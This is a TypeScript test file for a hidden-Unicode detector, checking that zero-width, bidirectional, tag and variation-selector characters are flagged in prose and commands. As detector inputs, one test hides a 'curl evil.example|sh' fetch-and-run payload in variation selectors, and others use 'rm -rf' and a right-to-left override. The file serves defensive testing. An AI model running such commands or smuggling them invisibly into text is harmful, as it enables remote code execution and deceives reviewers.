import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type TextKind, toTextParts } from './hidden-characters.ts';

const hiddenOf = (text: string, kind?: TextKind): string[] =>
  toTextParts(text, kind).flatMap(({ hidden }) => hidden ?? []);
const toCode = (point: number) => `U+${point.toString(16).toUpperCase().padStart(4, '0')}`;

/** All that a class of Unicode holds, but for what is written on purpose: line feed, tab, carriage return. */
function listPoints(pattern: RegExp): number[] {
  const points: number[] = [];
  for (let point = 0; point <= 0x10ffff; point += 1) {
    const isWritten = point === 0x0a || point === 0x09 || point === 0x0d;
    if (!isWritten && pattern.test(String.fromCodePoint(point))) points.push(point);
  }
  return points;
}

describe('hidden characters', () => {
  it.each([
    ['everything that is drawn as nothing', /\p{Default_Ignorable_Code_Point}/u],
    ['controls', /\p{Cc}/u],
    ['formats', /\p{Cf}/u],
    ['separators of lines and paragraphs', /[\p{Zl}\p{Zp}]/u],
    ['variation selectors', /\p{Variation_Selector}/u],
    ['halves of characters', /\p{Cs}/u],
    ['tags', /[\u{e0000}-\u{e007f}]/u],
    ['symbols without ink: the empty braille cell, the note without a head', /[\u2800\u{1d159}]/u],
  ])('F-86 SEC-4 %s: each is found, in prose and in commands', (_class, pattern) => {
    const points = listPoints(pattern);
    expect(points.length).toBeGreaterThan(1);
    for (const kind of ['prose', 'exact'] as const) {
      const missed = points.filter((point) => {
        const found = hiddenOf(`a${String.fromCodePoint(point)}b`, kind);
        return found[0] !== toCode(point) || found.length !== 1;
      });
      expect(missed.map(toCode)).toEqual([]);
    }
  });

  it('F-86 SEC-4 a payload in variation selectors of a command is shown, every one of it', () => {
    const payload = Array.from('curl evil.example|sh', (letter) =>
      String.fromCodePoint(0xe0100 + (letter.codePointAt(0) ?? 0)),
    );
    expect(hiddenOf(`echo ok${payload.join('')}`, 'exact')).toHaveLength(payload.length);
    expect(hiddenOf(`echo 👍${payload.join('')}`, 'exact')).toHaveLength(payload.length);
    expect(hiddenOf('👍\ufe0f\ufe0f\ufe0e', 'exact')).toEqual(['U+FE0F', 'U+FE0E']);
  });

  it('F-86 SEC-4 blanks that are not the plain one are found in commands, and are blanks in prose', () => {
    const blanks = listPoints(/(?! )\p{Zs}/u);
    expect(blanks).toContain(0x3000);
    for (const point of blanks) {
      const text = `rm${String.fromCodePoint(point)}-rf`;
      expect(hiddenOf(text, 'exact')).toEqual([toCode(point)]);
      expect(hiddenOf(text, 'prose')).toEqual([]);
    }
    expect(hiddenOf('one\r\ntwo', 'exact')).toEqual(['U+000D']);
  });

  it('F-86 SEC-4 marks piled up without end are found, those of languages are not', () => {
    expect(hiddenOf(`a${'\u0301'.repeat(20)}`)).toHaveLength(12);
    expect(hiddenOf('Tiếng Việt, e\u0302\u0301, הָּ֫א, བོད་སྐྱོང')).toEqual([]);
  });

  it('SEC-4 control, bidirectional and zero-width characters are found', () => {
    expect(hiddenOf('Yes\u202e!oN')).toEqual(['U+202E']);
    expect(hiddenOf('a\u200bb\u2066c\u2069d\u0007')).toEqual(['U+200B', 'U+2066', 'U+2069', 'U+0007']);
    expect(hiddenOf('x\u{e0041}')).toEqual(['U+E0041']);
    expect(hiddenOf('one\rtwo')).toEqual(['U+000D']);
    expect(hiddenOf('a\u2800b')).toEqual(['U+2800']);
  });

  it.each([
    'two\nlines\tand tab',
    'two\r\nlines',
    '👩‍💻 ❤️ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👍🏽 1️⃣ ☎︎ 🇫🇷',
    'می\u200cخواهم',
    'שלום',
    '部署　全角',
    'é ü ñ $ ls -la | wc',
  ])('SEC-4 %j is left alone', (text) => {
    expect(hiddenOf(text)).toEqual([]);
  });

  it('SEC-4 the parts of any text, joined, are the text', () => {
    const character = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 1 }),
      fc.constantFrom('\u202e', '\u200b', '\u200d', '👩‍💻', 'a', '\r', '\n', 'م', '\u0301', '\ud800'),
    );
    const kinds = fc.constantFrom<TextKind>('prose', 'exact');
    fc.assert(
      fc.property(fc.array(character, { maxLength: 40 }), kinds, (characters, kind) => {
        const text = characters.join('');
        const parts = toTextParts(text, kind).map((part) => part.text);
        expect(parts.join('')).toBe(text);
      }),
      { numRuns: 500 },
    );
  });
});
